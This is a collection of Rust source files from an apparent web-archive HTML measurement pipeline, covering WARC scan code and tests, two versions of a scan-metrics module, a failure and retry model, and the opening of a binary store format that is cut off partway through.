                    let report = battery.run_ref(&cx);
                    let uses_math = cx
                        .parse
                        .dom
                        .all_elements()
                        .any(|id| cx.parse.dom.element(id).is_some_and(|e| e.name == "math"));
                    Some((report.kinds(), report.mitigations, uses_math))
                }));
                match analysis {
                    Err(_panic) => quarantine(&mut rec, ErrorClass::ParserPanic),
                    Ok(None) => {} // §4.1 UTF-8 rejection — not a failure
                    Ok(Some((kinds, mitigations, uses_math))) => {
                        rec.pages_analyzed += 1;
                        for k in kinds {
                            rec.kinds.insert(k);
                            *rec.page_counts.entry(k).or_insert(0) += 1;
                        }
                        rec.mitigations.merge(mitigations);
                        rec.uses_math |= uses_math;
                    }
                }
            }
            rec.kinds_after_autofix = rec
                .kinds
                .iter()
                .copied()
                .filter(|k| k.fixability() == hv_core::Fixability::Manual)
                .collect();
            store.records.push(rec);
        }
    }
    store.universe = domains_seen.len();
    store.finalize();
    Ok(store)
}

fn host_of(url: &str) -> String {
    let stripped =
        url.strip_prefix("https://").or_else(|| url.strip_prefix("http://")).unwrap_or(url);
    stripped.split('/').next().unwrap_or(stripped).to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;
    use hv_corpus::{Archive, CorpusConfig};

    #[test]
    fn warc_scan_agrees_with_virtual_scan() {
        // Export a snapshot to disk, scan the files, and compare per-domain
        // kinds against scanning the virtual archive directly.
        let archive = Archive::new(CorpusConfig { seed: 606, scale: 0.002 });
        let dir = std::env::temp_dir().join("hv_warcscan_test");
        std::fs::remove_dir_all(&dir).ok();
        let snap = Snapshot::ALL[7];
        hv_corpus::warc::export_snapshot(&archive, snap, &dir, 12).unwrap();

        let inputs = discover(&dir).unwrap();
        assert_eq!(inputs.len(), 1);
        assert_eq!(inputs[0].snapshot, snap);
        let warc_store = scan_warc(&inputs).unwrap();

        let virtual_store = crate::run::scan_snapshots(
            &archive,
            &[snap],
            crate::run::ScanOptions::new().threads(2),
        );

        // Align by domain name over the exported subset.
        for wrec in &warc_store.records {
            let vrec = virtual_store
                .records
                .iter()
                .find(|r| r.domain_name == wrec.domain_name)
                .unwrap_or_else(|| panic!("{} missing from virtual scan", wrec.domain_name));
            assert_eq!(wrec.kinds, vrec.kinds, "kinds differ for {}", wrec.domain_name);
            assert_eq!(wrec.pages_analyzed, vrec.pages_analyzed, "{}", wrec.domain_name);
            assert_eq!(wrec.mitigations, vrec.mitigations);
            assert_eq!(wrec.uses_math, vrec.uses_math);
        }
        assert!(!warc_store.records.is_empty());
        std::fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn discover_ignores_unrelated_files() {
        let dir = std::env::temp_dir().join("hv_warcscan_discover");
        std::fs::create_dir_all(&dir).ok();
        std::fs::write(dir.join("notes.txt"), "x").unwrap();
        std::fs::write(dir.join("random.warc"), "x").unwrap(); // no crawl id / no cdxj
        let inputs = discover(&dir).unwrap();
        assert!(inputs.is_empty());
        std::fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn host_grouping() {
        assert_eq!(host_of("https://a.example.com/x/y"), "a.example.com");
        assert_eq!(host_of("http://b.example"), "b.example");
    }

    #[test]
    fn snapshot_from_crawl_ids() {
        assert_eq!(snapshot_from_crawl_id("CC-MAIN-2015-14"), Snapshot::from_year(2015));
        assert_eq!(snapshot_from_crawl_id("CC-MAIN-2022-05"), Snapshot::from_year(2022));
        assert_eq!(snapshot_from_crawl_id("whatever"), None);
    }
}
