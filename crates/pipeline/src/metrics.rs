//! Scan observability: what the engine did, how fast, and where the time
//! went.
//!
//! Each worker accumulates its own [`ScanMetrics`] lock-free (plain
//! counters on the worker's stack); the driver merges them after the join
//! — every field is additive or shape-aligned, so the merge is
//! order-independent. The merged metrics are embedded in the
//! [`crate::ResultStore`] as provenance and rendered by `hv scan
//! --metrics` / `hv repro`.

use hv_core::BatteryStats;
use serde::{Deserialize, Serialize};

/// Worker-side wall time per pipeline phase (Figure 6 steps), summed over
/// all workers — on an N-thread scan the phase total can exceed the scan's
/// wall clock by up to a factor of N.
#[derive(Debug, Clone, Copy, Default, PartialEq, Serialize, Deserialize)]
pub struct PhaseNanos {
    /// (1) CDX index lookups (driver-side, single-threaded).
    #[serde(default)]
    pub cdx: u64,
    /// (2) WARC record fetch (page generation / disk read).
    #[serde(default)]
    pub fetch: u64,
    /// §4.1 UTF-8 validation of the fetched bytes.
    #[serde(default)]
    pub decode: u64,
    /// Building the [`hv_core::CheckContext`] (tokenize + tree build).
    #[serde(default)]
    pub parse: u64,
    /// (3) running the checker battery over the parsed page.
    #[serde(default)]
    pub check: u64,
}

impl PhaseNanos {
    pub fn merge(&mut self, other: &PhaseNanos) {
        self.cdx += other.cdx;
        self.fetch += other.fetch;
        self.decode += other.decode;
        self.parse += other.parse;
        self.check += other.check;
    }

    /// Total attributed worker time.
    pub fn total(&self) -> u64 {
        self.cdx + self.fetch + self.decode + self.parse + self.check
    }
}

/// Aggregated scan telemetry. Every counter is a plain sum over workers,
/// so partial metrics from any number of workers merge into the same
/// totals regardless of thread count or merge order.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct ScanMetrics {
    /// Worker threads the scan ran with.
    #[serde(default)]
    pub threads: usize,
    /// Driver-side wall clock for the whole scan, nanoseconds.
    #[serde(default)]
    pub wall_nanos: u64,
    /// (domain, snapshot) pairs that had a CDX entry.
    #[serde(default)]
    pub domain_snapshots: u64,
    /// Pages listed in the CDX indices (before the UTF-8 filter).
    #[serde(default)]
    pub pages_listed: u64,
    /// Pages that decoded as UTF-8 and went through the battery.
    #[serde(default)]
    pub pages_analyzed: u64,
    /// Pages rejected by the §4.1 UTF-8 filter.
    #[serde(default)]
    pub pages_rejected_utf8: u64,
    /// Bytes fetched from the archive (all listed pages).
    #[serde(default)]
    pub bytes_fetched: u64,
    /// Bytes of the pages that passed the filter (== bytes parsed).
    #[serde(default)]
    pub bytes_decoded: u64,
    /// Where worker time went, per phase.
    #[serde(default)]
    pub phases: PhaseNanos,
    /// Per-check fire counts and wall-time histograms.
    #[serde(default)]
    pub battery: BatteryStats,
}

impl ScanMetrics {
    /// Fold one worker's partial metrics into the aggregate.
    pub fn merge(&mut self, other: &ScanMetrics) {
        self.domain_snapshots += other.domain_snapshots;
        self.pages_listed += other.pages_listed;
        self.pages_analyzed += other.pages_analyzed;
        self.pages_rejected_utf8 += other.pages_rejected_utf8;
        self.bytes_fetched += other.bytes_fetched;
        self.bytes_decoded += other.bytes_decoded;
        self.phases.merge(&other.phases);
        if self.battery.per_check.is_empty() {
            self.battery = other.battery.clone();
        } else if !other.battery.per_check.is_empty() {
            self.battery.merge(&other.battery);
        }
        // threads / wall_nanos are driver-owned, not summed.
    }

    /// Throughput over the scan's wall clock.
    pub fn pages_per_sec(&self) -> f64 {
        if self.wall_nanos == 0 {
            return 0.0;
        }
        self.pages_analyzed as f64 / (self.wall_nanos as f64 / 1e9)
    }

    /// Fraction of listed pages the §4.1 filter rejected.
    pub fn utf8_reject_rate(&self) -> f64 {
        if self.pages_listed == 0 {
            return 0.0;
        }
        self.pages_rejected_utf8 as f64 / self.pages_listed as f64
    }

    /// Human-readable multi-line summary (what `hv scan --metrics` prints).
    pub fn render(&self) -> String {
        let mut s = String::new();
        s.push_str("scan metrics\n");
        s.push_str(&format!(
            "  threads {:>3}   wall {:>8.2}s   throughput {:>9.0} pages/s\n",
            self.threads,
            self.wall_nanos as f64 / 1e9,
            self.pages_per_sec()
        ));
        s.push_str(&format!(
            "  domain-snapshots {}   pages listed {}   analyzed {}   utf-8 rejected {} ({:.2}%)\n",
            self.domain_snapshots,
            self.pages_listed,
            self.pages_analyzed,
            self.pages_rejected_utf8,
            100.0 * self.utf8_reject_rate()
        ));
        s.push_str(&format!(
            "  bytes fetched {:.1} MiB   decoded {:.1} MiB\n",
            self.bytes_fetched as f64 / (1024.0 * 1024.0),
            self.bytes_decoded as f64 / (1024.0 * 1024.0)
        ));
        let t = self.phases.total().max(1);
        s.push_str(&format!(
            "  worker time: cdx {:.1}% fetch {:.1}% decode {:.1}% parse {:.1}% check {:.1}%\n",
            100.0 * self.phases.cdx as f64 / t as f64,
            100.0 * self.phases.fetch as f64 / t as f64,
            100.0 * self.phases.decode as f64 / t as f64,
            100.0 * self.phases.parse as f64 / t as f64,
            100.0 * self.phases.check as f64 / t as f64
        ));
        if !self.battery.per_check.is_empty() {
            s.push_str("  per-check: pages fired / findings / mean ns\n");
            for (kind, st) in &self.battery.per_check {
                s.push_str(&format!(
                    "    {:<6} {:>8} {:>9} {:>9.0}\n",
                    kind.to_string(),
                    st.pages_fired,
                    st.findings_total,
                    st.nanos.mean_nanos()
                ));
            }
        }
        s
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn worker(pages: u64, bytes: u64) -> ScanMetrics {
        ScanMetrics {
            domain_snapshots: 2,
            pages_listed: pages + 1,
            pages_analyzed: pages,
            pages_rejected_utf8: 1,
            bytes_fetched: bytes + 100,
            bytes_decoded: bytes,
            phases: PhaseNanos { cdx: 0, fetch: 10, decode: 20, parse: 300, check: 400 },
            ..ScanMetrics::default()
        }
    }

    #[test]
    fn merge_is_additive_and_order_independent() {
        let (a, b) = (worker(10, 1000), worker(7, 500));
        let mut ab = ScanMetrics::default();
        ab.merge(&a);
        ab.merge(&b);
        let mut ba = ScanMetrics::default();
        ba.merge(&b);
        ba.merge(&a);
        assert_eq!(ab.pages_analyzed, 17);
        assert_eq!(ab.pages_listed, 19);
        assert_eq!(ab.bytes_decoded, 1500);
        assert_eq!(ab.phases, ba.phases);
        assert_eq!(ab.pages_analyzed, ba.pages_analyzed);
    }

    #[test]
    fn rates_guard_division_by_zero() {
        let m = ScanMetrics::default();
        assert_eq!(m.pages_per_sec(), 0.0);
        assert_eq!(m.utf8_reject_rate(), 0.0);
    }

    #[test]
    fn render_mentions_throughput_and_phases() {
        let mut m = worker(100, 10_000);
        m.threads = 4;
        m.wall_nanos = 2_000_000_000;
        let out = m.render();
        assert!(out.contains("threads"));
        assert!(out.contains("pages/s"));
        assert!(out.contains("parse"));
        assert!(out.contains("utf-8 rejected 1"));
    }

    #[test]
    fn serde_roundtrip() {
        let mut m = worker(3, 64);
        m.threads = 2;
        m.wall_nanos = 5;
        let json = serde_json::to_string(&m).unwrap();
        let back: ScanMetrics = serde_json::from_str(&json).unwrap();
        assert_eq!(back.pages_analyzed, m.pages_analyzed);
        assert_eq!(back.phases, m.phases);
        assert_eq!(back.threads, 2);
    }
}
