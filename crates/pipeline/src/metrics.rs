//! Scan observability: what the engine did, how fast, and where the time
//! went.
//!
//! Each worker accumulates its own [`ScanMetrics`] lock-free (plain
//! counters on the worker's stack); the driver merges them after the join
//! — every field is additive or shape-aligned, so the merge is
//! order-independent. The merged metrics are embedded in the
//! [`crate::ResultStore`] as provenance and rendered by `hv scan
//! --metrics` / `hv repro`.

use crate::outcome::ErrorClass;
use hv_core::BatteryStats;
use serde::{Deserialize, Serialize};

/// Failure-handling telemetry: what the robustness layer did. All
/// counters are plain worker-side sums. The struct is all-zero on a clean
/// scan and is then omitted from the serialized metrics entirely, keeping
/// clean-run stores byte-identical to ones written before the failure
/// model existed.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct FaultMetrics {
    /// Pages whose fetch path had a fault injected (any class).
    #[serde(default)]
    pub injected: u64,
    /// Fetch retries performed (each transient failure that was retried).
    #[serde(default)]
    pub retries: u64,
    /// Total deterministic backoff the retries accounted, nanoseconds.
    #[serde(default)]
    pub backoff_nanos: u64,
    /// Pages analyzed after ≥ 1 retry ([`PageOutcome::Degraded`]).
    ///
    /// [`PageOutcome::Degraded`]: crate::outcome::PageOutcome::Degraded
    #[serde(default)]
    pub degraded: u64,
    /// Pages quarantined, all classes (== the per-class counters' sum).
    #[serde(default)]
    pub quarantined: u64,
    /// Panics caught at the per-page isolation boundary.
    #[serde(default)]
    pub panics_caught: u64,
    /// Injected invalid-UTF-8 faults. These pages land in
    /// [`ScanMetrics::pages_rejected_utf8`] — the §4.1 filter is the
    /// correct handler for mojibake — so they are counted here but never
    /// quarantined.
    #[serde(default)]
    pub invalid_utf8_injected: u64,
    /// Quarantines by class.
    #[serde(default)]
    pub malformed_cdx: u64,
    #[serde(default)]
    pub transient_io: u64,
    #[serde(default)]
    pub truncated_record: u64,
    #[serde(default)]
    pub corrupt_compression: u64,
    #[serde(default)]
    pub oversized_body: u64,
    #[serde(default)]
    pub parser_panic: u64,
}

impl FaultMetrics {
    /// All-zero — the serializer omits the struct in this state.
    pub fn is_empty(&self) -> bool {
        *self == FaultMetrics::default()
    }

    /// Record one quarantine under its class.
    pub fn bump_quarantine(&mut self, class: ErrorClass) {
        self.quarantined += 1;
        match class {
            ErrorClass::MalformedCdx => self.malformed_cdx += 1,
            ErrorClass::TransientIo => self.transient_io += 1,
            ErrorClass::TruncatedRecord => self.truncated_record += 1,
            ErrorClass::CorruptCompression => self.corrupt_compression += 1,
            ErrorClass::OversizedBody => self.oversized_body += 1,
            ErrorClass::ParserPanic => self.parser_panic += 1,
        }
    }

    pub fn merge(&mut self, other: &FaultMetrics) {
        self.injected += other.injected;
        self.retries += other.retries;
        self.backoff_nanos += other.backoff_nanos;
        self.degraded += other.degraded;
        self.quarantined += other.quarantined;
        self.panics_caught += other.panics_caught;
        self.invalid_utf8_injected += other.invalid_utf8_injected;
        self.malformed_cdx += other.malformed_cdx;
        self.transient_io += other.transient_io;
        self.truncated_record += other.truncated_record;
        self.corrupt_compression += other.corrupt_compression;
        self.oversized_body += other.oversized_body;
        self.parser_panic += other.parser_panic;
    }
}

/// Worker-side wall time per pipeline phase (Figure 6 steps), summed over
/// all workers — on an N-thread scan the phase total can exceed the scan's
/// wall clock by up to a factor of N.
#[derive(Debug, Clone, Copy, Default, PartialEq, Serialize, Deserialize)]
pub struct PhaseNanos {
    /// (1) CDX index lookups (driver-side, single-threaded).
    #[serde(default)]
    pub cdx: u64,
    /// (2) WARC record fetch (page generation / disk read).
    #[serde(default)]
    pub fetch: u64,
    /// §4.1 UTF-8 validation of the fetched bytes.
    #[serde(default)]
    pub decode: u64,
    /// Building the [`hv_core::CheckContext`] (tokenize + tree build).
    #[serde(default)]
    pub parse: u64,
    /// (3) running the checker battery over the parsed page.
    #[serde(default)]
    pub check: u64,
}

impl PhaseNanos {
    pub fn merge(&mut self, other: &PhaseNanos) {
        self.cdx += other.cdx;
        self.fetch += other.fetch;
        self.decode += other.decode;
        self.parse += other.parse;
        self.check += other.check;
    }

    /// Total attributed worker time.
    pub fn total(&self) -> u64 {
        self.cdx + self.fetch + self.decode + self.parse + self.check
    }
}

/// Aggregated scan telemetry. Every counter is a plain sum over workers,
/// so partial metrics from any number of workers merge into the same
/// totals regardless of thread count or merge order.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct ScanMetrics {
    /// Worker threads the scan ran with.
    #[serde(default)]
    pub threads: usize,
    /// Driver-side wall clock for the whole scan, nanoseconds.
    #[serde(default)]
    pub wall_nanos: u64,
    /// (domain, snapshot) pairs that had a CDX entry.
    #[serde(default)]
    pub domain_snapshots: u64,
    /// Pages listed in the CDX indices (before the UTF-8 filter).
    #[serde(default)]
    pub pages_listed: u64,
    /// Pages that decoded as UTF-8 and went through the battery.
    #[serde(default)]
    pub pages_analyzed: u64,
    /// Pages rejected by the §4.1 UTF-8 filter.
    #[serde(default)]
    pub pages_rejected_utf8: u64,
    /// Bytes fetched from the archive (all listed pages).
    #[serde(default)]
    pub bytes_fetched: u64,
    /// Bytes of the pages that passed the filter (== bytes parsed).
    #[serde(default)]
    pub bytes_decoded: u64,
    /// Where worker time went, per phase.
    #[serde(default)]
    pub phases: PhaseNanos,
    /// Per-check fire counts and wall-time histograms.
    #[serde(default)]
    pub battery: BatteryStats,
    /// Failure-handling counters (retries, quarantines, caught panics).
    /// All-zero on a clean scan and then omitted from the JSON, so stores
    /// from before the failure model stay byte-identical.
    #[serde(default, skip_serializing_if = "FaultMetrics::is_empty")]
    pub faults: FaultMetrics,
}

impl ScanMetrics {
    /// Fold one worker's partial metrics into the aggregate.
    pub fn merge(&mut self, other: &ScanMetrics) {
        self.domain_snapshots += other.domain_snapshots;
        self.pages_listed += other.pages_listed;
        self.pages_analyzed += other.pages_analyzed;
        self.pages_rejected_utf8 += other.pages_rejected_utf8;
        self.bytes_fetched += other.bytes_fetched;
        self.bytes_decoded += other.bytes_decoded;
        self.phases.merge(&other.phases);
        self.faults.merge(&other.faults);
        if self.battery.per_check.is_empty() {
            self.battery = other.battery.clone();
        } else if !other.battery.per_check.is_empty() {
            self.battery.merge(&other.battery);
        }
        // threads / wall_nanos are driver-owned, not summed.
    }

    /// Throughput over the scan's wall clock.
    pub fn pages_per_sec(&self) -> f64 {
        if self.wall_nanos == 0 {
            return 0.0;
        }
        self.pages_analyzed as f64 / (self.wall_nanos as f64 / 1e9)
    }

    /// Fraction of listed pages the §4.1 filter rejected.
    pub fn utf8_reject_rate(&self) -> f64 {
        if self.pages_listed == 0 {
            return 0.0;
        }
        self.pages_rejected_utf8 as f64 / self.pages_listed as f64
    }

    /// Human-readable multi-line summary (what `hv scan --metrics` prints).
    pub fn render(&self) -> String {
        let mut s = String::new();
        s.push_str("scan metrics\n");
        s.push_str(&format!(
            "  threads {:>3}   wall {:>8.2}s   throughput {:>9.0} pages/s\n",
            self.threads,
            self.wall_nanos as f64 / 1e9,
            self.pages_per_sec()
        ));
        s.push_str(&format!(
            "  domain-snapshots {}   pages listed {}   analyzed {}   utf-8 rejected {} ({:.2}%)\n",
            self.domain_snapshots,
            self.pages_listed,
            self.pages_analyzed,
            self.pages_rejected_utf8,
            100.0 * self.utf8_reject_rate()
        ));
        s.push_str(&format!(
            "  bytes fetched {:.1} MiB   decoded {:.1} MiB\n",
            self.bytes_fetched as f64 / (1024.0 * 1024.0),
            self.bytes_decoded as f64 / (1024.0 * 1024.0)
        ));
        let t = self.phases.total().max(1);
        s.push_str(&format!(
            "  worker time: cdx {:.1}% fetch {:.1}% decode {:.1}% parse {:.1}% check {:.1}%\n",
            100.0 * self.phases.cdx as f64 / t as f64,
            100.0 * self.phases.fetch as f64 / t as f64,
            100.0 * self.phases.decode as f64 / t as f64,
            100.0 * self.phases.parse as f64 / t as f64,
            100.0 * self.phases.check as f64 / t as f64
        ));
        if !self.faults.is_empty() {
            let f = &self.faults;
            s.push_str(&format!(
                "  faults: injected {}   retries {}   degraded {}   quarantined {}   panics caught {}\n",
                f.injected, f.retries, f.degraded, f.quarantined, f.panics_caught
            ));
            s.push_str(&format!(
                "  quarantine by class: cdx {} transient {} truncated {} gzip {} oversized {} panic {}   (utf-8 faults → filter: {})\n",
                f.malformed_cdx,
                f.transient_io,
                f.truncated_record,
                f.corrupt_compression,
                f.oversized_body,
                f.parser_panic,
                f.invalid_utf8_injected
            ));
        }
        if !self.battery.per_check.is_empty() {
            s.push_str("  per-check: pages fired / findings / dispatches / mean ns\n");
            for (kind, st) in &self.battery.per_check {
                s.push_str(&format!(
                    "    {:<6} {:>8} {:>9} {:>10} {:>9.0}\n",
                    kind.to_string(),
                    st.pages_fired,
                    st.findings_total,
                    st.dispatches,
                    st.nanos.mean_nanos()
                ));
            }
        }
        s
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn worker(pages: u64, bytes: u64) -> ScanMetrics {
        ScanMetrics {
            domain_snapshots: 2,
            pages_listed: pages + 1,
            pages_analyzed: pages,
            pages_rejected_utf8: 1,
            bytes_fetched: bytes + 100,
            bytes_decoded: bytes,
            phases: PhaseNanos { cdx: 0, fetch: 10, decode: 20, parse: 300, check: 400 },
            ..ScanMetrics::default()
        }
    }

    #[test]
    fn merge_is_additive_and_order_independent() {
        let (a, b) = (worker(10, 1000), worker(7, 500));
        let mut ab = ScanMetrics::default();
        ab.merge(&a);
        ab.merge(&b);
        let mut ba = ScanMetrics::default();
        ba.merge(&b);
        ba.merge(&a);
        assert_eq!(ab.pages_analyzed, 17);
        assert_eq!(ab.pages_listed, 19);
        assert_eq!(ab.bytes_decoded, 1500);
        assert_eq!(ab.phases, ba.phases);
        assert_eq!(ab.pages_analyzed, ba.pages_analyzed);
    }

    #[test]
    fn rates_guard_division_by_zero() {
        let m = ScanMetrics::default();
        assert_eq!(m.pages_per_sec(), 0.0);
        assert_eq!(m.utf8_reject_rate(), 0.0);
    }

    #[test]
    fn render_mentions_throughput_and_phases() {
        let mut m = worker(100, 10_000);
        m.threads = 4;
        m.wall_nanos = 2_000_000_000;
        let out = m.render();
        assert!(out.contains("threads"));
        assert!(out.contains("pages/s"));
        assert!(out.contains("parse"));
        assert!(out.contains("utf-8 rejected 1"));
    }

    #[test]
    fn fault_metrics_merge_and_classify() {
        let mut a = FaultMetrics::default();
        assert!(a.is_empty());
        a.injected = 3;
        a.retries = 2;
        a.bump_quarantine(ErrorClass::TruncatedRecord);
        a.bump_quarantine(ErrorClass::TransientIo);
        let mut b = FaultMetrics { injected: 1, degraded: 1, ..FaultMetrics::default() };
        b.bump_quarantine(ErrorClass::TruncatedRecord);
        a.merge(&b);
        assert_eq!(a.injected, 4);
        assert_eq!(a.quarantined, 3);
        assert_eq!(a.truncated_record, 2);
        assert_eq!(a.transient_io, 1);
        assert!(!a.is_empty());
    }

    #[test]
    fn empty_faults_are_omitted_from_json() {
        let clean = worker(3, 64);
        let json = serde_json::to_string(&clean).unwrap();
        assert!(!json.contains("faults"), "clean metrics must not serialize faults: {json}");
        let mut chaotic = worker(3, 64);
        chaotic.faults.injected = 1;
        let json = serde_json::to_string(&chaotic).unwrap();
        assert!(json.contains("faults"));
        let back: ScanMetrics = serde_json::from_str(&json).unwrap();
        assert_eq!(back.faults.injected, 1);
    }

    #[test]
    fn render_mentions_faults_only_when_present() {
        let mut m = worker(10, 100);
        assert!(!m.render().contains("quarantine"));
        m.faults.injected = 5;
        m.faults.bump_quarantine(ErrorClass::OversizedBody);
        let out = m.render();
        assert!(out.contains("injected 5"));
        assert!(out.contains("oversized 1"));
    }

    #[test]
    fn serde_roundtrip() {
        let mut m = worker(3, 64);
        m.threads = 2;
        m.wall_nanos = 5;
        let json = serde_json::to_string(&m).unwrap();
        let back: ScanMetrics = serde_json::from_str(&json).unwrap();
        assert_eq!(back.pages_analyzed, m.pages_analyzed);
        assert_eq!(back.phases, m.phases);
        assert_eq!(back.threads, 2);
    }
}
