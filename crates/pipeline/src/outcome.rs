//! The scan's failure model: how a page that cannot be analyzed is
//! classified, retried, and quarantined.
//!
//! Every page the CDX index lists ends in exactly one of three outcomes
//! ([`PageOutcome`]): analyzed cleanly (`Ok`), analyzed after transient
//! trouble (`Degraded`), or set aside with a structured reason
//! (`Quarantined`) — never a dead worker and never a silent skip. The
//! quarantine reasons ([`ErrorClass`]) mirror what a real Common Crawl
//! measurement meets: records that cannot be located, read, decompressed,
//! or bounded, plus the backstop nobody plans for — a parser panic caught
//! at the page boundary. Quarantined pages are excluded from the §4
//! aggregates *and accounted for*, so the denominator of every rate is
//! explicit.
//!
//! Retries are governed by [`RetryPolicy`]: bounded attempts with
//! deterministic exponential backoff. The backoff is part of the failure
//! model, not a tuning knob — with a deterministic fault schedule
//! (`hv_corpus::faults`), the same policy yields the same outcomes on
//! every run at every thread count.

use hv_corpus::Snapshot;
use serde::{Deserialize, Serialize};

/// Why a page was quarantined. The order (and the serialized variant
/// name) is stable, so quarantine sets compare byte-for-byte across runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum ErrorClass {
    /// The CDX metadata for the page could not be parsed.
    MalformedCdx,
    /// Transient I/O errors persisted through every retry attempt.
    TransientIo,
    /// The WARC record was truncated or otherwise unparseable.
    TruncatedRecord,
    /// The record body is a (corrupt) compressed stream, not HTML.
    CorruptCompression,
    /// The record body exceeds the scan's byte budget.
    OversizedBody,
    /// The parser or a checker panicked; the page was contained at the
    /// isolation boundary.
    ParserPanic,
}

impl ErrorClass {
    pub const ALL: [ErrorClass; 6] = [
        ErrorClass::MalformedCdx,
        ErrorClass::TransientIo,
        ErrorClass::TruncatedRecord,
        ErrorClass::CorruptCompression,
        ErrorClass::OversizedBody,
        ErrorClass::ParserPanic,
    ];

    pub fn as_str(&self) -> &'static str {
        match self {
            ErrorClass::MalformedCdx => "malformed-cdx",
            ErrorClass::TransientIo => "transient-io",
            ErrorClass::TruncatedRecord => "truncated-record",
            ErrorClass::CorruptCompression => "corrupt-compression",
            ErrorClass::OversizedBody => "oversized-body",
            ErrorClass::ParserPanic => "parser-panic",
        }
    }
}

impl std::fmt::Display for ErrorClass {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// The terminal classification of one listed page.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PageOutcome {
    /// Fetched and analyzed on the first attempt (or rejected by the §4.1
    /// UTF-8 filter, which is a measurement decision, not a failure).
    Ok,
    /// Analyzed successfully, but only after `retries` transient-error
    /// retries — counted so flaky inputs are visible, not silent.
    Degraded { retries: u32 },
    /// Set aside with a structured reason; excluded from aggregates.
    Quarantined(ErrorClass),
}

/// Bounded retry with deterministic exponential backoff.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RetryPolicy {
    /// Total fetch attempts per page (first try included). Must be ≥ 1.
    pub max_attempts: u32,
    /// Backoff before retry `n` (1-based) is `base << (n - 1)` nanoseconds.
    /// 0 disables sleeping — right for the virtual archive, where
    /// "transient" faults are simulated and waiting buys nothing.
    pub base_backoff_nanos: u64,
}

impl RetryPolicy {
    /// Deterministic backoff before the `attempt`-th retry (1-based).
    pub fn backoff_nanos(&self, attempt: u32) -> u64 {
        self.base_backoff_nanos << (attempt - 1).min(20)
    }
}

impl Default for RetryPolicy {
    /// Three attempts, no sleeping: with the injector drawing 1–4
    /// transient failures per faulted page, roughly half recover
    /// (degraded) and half exhaust into quarantine — both paths stay
    /// exercised by default.
    fn default() -> Self {
        RetryPolicy { max_attempts: 3, base_backoff_nanos: 0 }
    }
}

/// One quarantined page, persisted in the [`crate::ResultStore`] so a scan
/// is auditable: which pages are missing from the aggregates, and why.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct QuarantineEntry {
    pub domain_id: u64,
    pub snapshot: Snapshot,
    pub page_index: usize,
    pub url: String,
    pub class: ErrorClass,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn error_class_names_are_stable_and_distinct() {
        let names: std::collections::BTreeSet<_> =
            ErrorClass::ALL.iter().map(|c| c.as_str()).collect();
        assert_eq!(names.len(), ErrorClass::ALL.len());
        assert_eq!(ErrorClass::ParserPanic.to_string(), "parser-panic");
    }

    #[test]
    fn error_class_serde_roundtrip() {
        for class in ErrorClass::ALL {
            let json = serde_json::to_string(&class).unwrap();
            let back: ErrorClass = serde_json::from_str(&json).unwrap();
            assert_eq!(back, class);
        }
    }

    #[test]
    fn backoff_doubles_from_base() {
        let p = RetryPolicy { max_attempts: 4, base_backoff_nanos: 100 };
        assert_eq!(p.backoff_nanos(1), 100);
        assert_eq!(p.backoff_nanos(2), 200);
        assert_eq!(p.backoff_nanos(3), 400);
        // The shift is clamped: no overflow however many attempts.
        assert!(p.backoff_nanos(80) > 0);
    }

    #[test]
    fn default_policy_never_sleeps() {
        let p = RetryPolicy::default();
        assert_eq!(p.max_attempts, 3);
        assert_eq!(p.backoff_nanos(1), 0);
        assert_eq!(p.backoff_nanos(3), 0);
    }

    #[test]
    fn quarantine_entry_roundtrips() {
        let e = QuarantineEntry {
            domain_id: 42,
            snapshot: Snapshot::ALL[3],
            page_index: 17,
            url: "https://example.com/page/17.html".into(),
            class: ErrorClass::TruncatedRecord,
        };
        let json = serde_json::to_string(&e).unwrap();
        let back: QuarantineEntry = serde_json::from_str(&json).unwrap();
        assert_eq!(back, e);
    }
}
