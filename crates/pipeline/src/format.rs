//! The v1 segmented binary store format — framing, checksums, writer and
//! reader.
//!
//! A v1 store is an append-only sequence of checksummed blocks:
//!
//! ```text
//! "HVSTORE1"                                  8-byte magic
//! [len u32][header JSON][crc32]               seed / scale / universe
//! 0x01 [snap u8][payload_len u64][payload][crc32]   one segment per snapshot
//! 0x02 [payload_len u64][metrics JSON][crc32]       optional
//! 0x03 [payload_len u64][quarantine JSON][crc32]    optional
//! 0xFF [segments u32][records u64][crc32]           trailer
//! ```
//!
//! A segment's payload is `[count u32]` followed by `count` length-prefixed
//! [`DomainYearRecord`] JSON frames and one length-prefixed footer frame
//! carrying the pre-folded [`SegmentSummary`] — so `hva store inspect` and
//! `/v1/store/summary` can report per-snapshot statistics without decoding
//! a single record.
//!
//! Integrity: every byte after the magic is covered by exactly one CRC-32
//! (the length prefixes are inside their block's checksum), and the
//! trailer makes truncation detectable. Any single-byte corruption
//! therefore surfaces as a structured [`HvError::StoreCorrupt`] naming the
//! segment and byte offset — never a panic, never silently wrong numbers.
//! [`read_v1`] with [`LoadOptions::allow_partial`] instead skips corrupt
//! segments (resynchronizing via the framed `payload_len`) and reports
//! what was dropped.

use crate::metrics::ScanMetrics;
use crate::outcome::QuarantineEntry;
use crate::store::{DomainYearRecord, ResultStore};
use hv_core::HvError;
use hv_corpus::Snapshot;
use serde::{Deserialize, Serialize};
use std::io::Write;
use std::path::Path;

/// File magic of the v1 binary format. The first byte can never be `{`,
/// so [`ResultStore::load`] can sniff v0 JSON vs v1 binary.
pub const MAGIC: [u8; 8] = *b"HVSTORE1";

const TAG_SEGMENT: u8 = 0x01;
const TAG_METRICS: u8 = 0x02;
const TAG_QUARANTINE: u8 = 0x03;
const TAG_TRAILER: u8 = 0xFF;

/// Upper bound accepted for any length prefix: a corrupted length field
/// must not trigger a multi-gigabyte allocation before the CRC catches it.
